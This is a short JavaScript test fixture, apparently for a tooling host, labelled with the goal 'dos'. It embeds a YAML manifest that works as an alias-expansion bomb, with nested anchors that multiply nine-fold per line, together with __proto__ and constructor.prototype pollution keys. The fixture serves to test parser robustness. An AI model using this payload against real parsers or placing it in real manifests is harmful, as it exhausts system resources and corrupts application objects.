// class: host tooling
// goal: dos
// options: {"deadline":2000,"files":{"phlow.yaml":"name: attack\nversion: 1.0.0\nentry: index.mjs\ndescription: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ninput: &i { type: object, properties: { self: *h } }\n__proto__: { polluted: 1 }\nconstructor: { prototype: { polluted: 1 } }\n"}}
// A manifest that doubles with each line.
export default () => 'called';
